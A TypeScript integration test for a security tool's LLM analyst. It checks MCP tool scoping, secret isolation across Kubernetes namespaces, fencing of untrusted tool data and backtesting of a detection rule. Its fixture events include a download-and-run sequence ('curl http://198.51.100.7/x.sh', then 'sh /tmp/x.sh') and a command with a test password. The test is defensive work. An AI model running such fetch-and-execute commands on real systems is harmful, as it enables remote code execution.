/**
 * The whole loop on real wires: LlmAnalyst ⇄ fake LLM server (HTTP, OpenAI
 * protocol) and LlmAnalyst ⇄ `falconer mcp` (Streamable HTTP, bearer token,
 * the project's MCP client) over an in-process event store. The model asks for
 * this workload's events (answered), then for kube-system's (refused client
 * side, never reaches the server), then answers citing an event only the tool
 * returned. A secret in another namespace's event never reaches the LLM.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { LlmAnalyst } from '../../src/agents/analyse/llm/analyst.ts';
import { staticPromptSource } from '../../src/agents/analyse/llm/builtin-prompt.ts';
import { connectAnalyseTools } from '../../src/agents/analyse/llm/adapters.ts';
import { fenceProblems } from '../../src/llm/untrusted/index.ts';
import { createLocalBackend } from '../../src/mcp/backend.ts';
import type { ToolGateway } from '../../src/mcp/gateway.ts';
import { startMcpHttpServer, type McpHttpServer } from '../../src/mcp/http.ts';
import { FULL_SCOPE } from '../../src/mcp/scope.ts';
import { EventStore } from '../../src/store/event-store.ts';
import { silentLogger } from '../../src/telemetry/logger.ts';
import { startFakeLlmServer, type FakeLlmServer } from '../support/fake-llm-server.ts';
import {
  answer,
  answerReply,
  bodyText,
  clientFor,
  event,
  incident,
  messageTexts,
  nonceOf,
  openAiReply,
  WORKLOAD,
} from './analyst-support.ts';

const TOKEN = 'mcp-test-token-5b0e';
const OTHER_NS_SECRET = 'kube-Sys-S3cret-998';
const now = Date.now();
const at = (secondsAgo: number) => ({
  timeMs: now - secondsAgo * 1000,
  time: new Date(now - secondsAgo * 1000).toISOString(),
});

let llm: FakeLlmServer;
let mcp: McpHttpServer;
let gateway: ToolGateway;
before(async () => {
  llm = await startFakeLlmServer();
  const store = new EventStore({ maxEvents: 1000 });
  const kubeSystem = {
    ...WORKLOAD,
    key: 'prod-cluster/kube-system/etcd-0/etcd',
    namespace: 'kube-system',
    pod: 'etcd-0',
    container: 'etcd',
  };
  store.add([
    event('ev-1', {}, at(300)),
    event('ev-2', { 'proc.cmdline': 'curl http://198.51.100.7/x.sh' }, at(290)),
    event('ev-3', { 'proc.name': 'sh', 'proc.cmdline': 'sh /tmp/x.sh' }, at(280)),
    event(
      'ev-k1',
      {
        'proc.name': 'sh',
        'proc.cmdline': `etcdctl --password=${OTHER_NS_SECRET}`,
        'k8s.ns.name': 'kube-system',
      },
      { ...at(200), workload: kubeSystem },
    ),
  ]);
  mcp = await startMcpHttpServer({
    host: '127.0.0.1',
    port: 0,
    credentials: [{ token: TOKEN, scope: FULL_SCOPE }],
    maxBodyBytes: 1 << 20,
    requestTimeoutMs: 10_000,
    timeoutMs: 10_000,
    maxRangeMs: 24 * 3600_000,
    backend: createLocalBackend({ events: store }),
    kube: undefined,
    logger: silentLogger(),
  });
  // As the analyse agent connects: analyse.mcp { url, tokenEnv }.
  const connected = await connectAnalyseTools({ url: mcp.url, tokenEnv: 'MCP_TOKEN' }, undefined, {
    MCP_TOKEN: TOKEN,
  });
  assert.ok(connected);
  gateway = connected;
});
after(async () => {
  await gateway?.close();
  await mcp?.close();
  await llm?.close();
});

describe('analyse ⇄ MCP ⇄ LLM', () => {
  it('the gateway connects on first use: an MCP server not up yet is no start-up failure', async () => {
    const early = await connectAnalyseTools({ url: 'http://127.0.0.1:9/mcp', tokenEnv: 'T' }, undefined, {
      T: 'x',
    });
    assert.ok(early);
    await assert.rejects(early.list());
    await early.close();
  });

  it('a wrong MCP token is refused by the server', async () => {
    await assert.rejects(async () => {
      const g = await connectAnalyseTools({ url: mcp.url, tokenEnv: 'MCP_TOKEN' }, undefined, {
        MCP_TOKEN: 'wrong',
      });
      try {
        await g?.list();
      } finally {
        await g?.close();
      }
    });
  });

  it('tool results from the real MCP server are fenced, scoped and citable', async () => {
    const listed = (await gateway.list()).map((t) => t.name);
    assert.ok(listed.includes('events.search'), listed.join());
    llm.enqueue(
      openAiReply({
        toolCalls: [
          {
            id: 'call_1',
            name: 'events_search',
            args: { fields: [{ field: 'proc.name', op: 'eq', value: 'sh' }] },
          },
        ],
      }),
      openAiReply({
        toolCalls: [{ id: 'call_2', name: 'events_search', args: { namespace: 'kube-system' } }],
      }),
      answerReply(
        'openai',
        answer({
          citedEventIds: ['ev-1', 'ev-3'],
          explanation: 'A shell [event ev-1] ran a downloaded script [event ev-3].',
        }),
      ),
    );
    const analyst = new LlmAnalyst({
      client: await clientFor(llm, 'openai'),
      prompts: staticPromptSource(),
      tools: gateway,
    });
    const out = await analyst.analyse(
      incident([
        event('ev-1', {}, at(300)),
        event('ev-2', { 'proc.cmdline': 'curl http://198.51.100.7/x.sh' }, at(290)),
      ]),
    );
    assert.equal(out.result.analyst, 'llm', out.result.degradedReason);
    assert.deepEqual(out.result.citedEventIds, ['ev-1', 'ev-3'], 'ev-3 came from the MCP tool');
    assert.deepEqual(
      out.toolCalls.map((c) => `${c.tool}:${c.outcome}`),
      ['events.search:ok', 'events.search:refused'],
    );
    assert.equal(llm.requests.length, 3);
    const second = messageTexts(llm.requests[1]!).join('\n');
    assert.match(second, /<untrusted-data id="tool:events_search:call_1" nonce="[a-f0-9]+">/);
    assert.match(second, /sh \/tmp\/x\.sh/);
    for (const req of llm.requests) {
      assert.ok(!bodyText(req).includes(OTHER_NS_SECRET), 'another namespace never reaches the LLM');
      assert.ok(!bodyText(req).includes('ev-k1'));
      for (const t of messageTexts(req).slice(1)) assert.deepEqual(fenceProblems(t, nonceOf(req)), []);
    }
    assert.match(
      messageTexts(llm.requests[2]!).join('\n'),
      /refused: argument namespace="kube-system" is outside this incident/,
    );
  });

  it('a proposed rule is backtested by the real MCP rules.backtest and repaired by the model', async () => {
    llm.requests.length = 0;
    const rule = (condition: string) =>
      `- rule: Script download\n  desc: d\n  condition: ${condition}\n  output: o (%proc.cmdline)\n  priority: WARNING\n`;
    const noisy = rule('proc.name = bash');
    const fixed = rule('proc.name = bash and proc.cmdline contains "x.sh"');
    llm.enqueue(
      answerReply(
        'openai',
        answer({ citedEventIds: ['ev-2'], explanation: 'A download [event ev-2].', proposedRule: noisy }),
      ),
      openAiReply({ content: JSON.stringify({ proposedRule: fixed }) }),
    );
    const analyst = new LlmAnalyst({
      client: await clientFor(llm, 'openai'),
      prompts: staticPromptSource(),
      tools: gateway,
      limits: { maxToolRounds: 0 },
    });
    const out = await analyst.analyse(
      incident([event('ev-2', { 'proc.cmdline': 'curl http://198.51.100.7/x.sh' }, at(290))]),
    );
    assert.equal(out.result.analyst, 'llm', out.result.degradedReason);
    assert.equal(out.result.proposedRule, fixed);
    assert.equal(out.ruleCheck?.status, 'accepted');
    assert.equal(out.ruleCheck.backtest.report?.incident.hits, 1);
    assert.equal(out.ruleCheck.backtest.report?.other.hits, 0);
    assert.equal(llm.requests.length, 2);
    const repair = messageTexts(llm.requests[1]!).join('\n');
    assert.match(repair, /it fired on 1 of 3 other stored events/);
    assert.match(
      repair,
      /<untrusted-data id="backtest-1" nonce="[a-f0-9]+">\nids of other events it fired on: ev-1/,
    );
  });
});
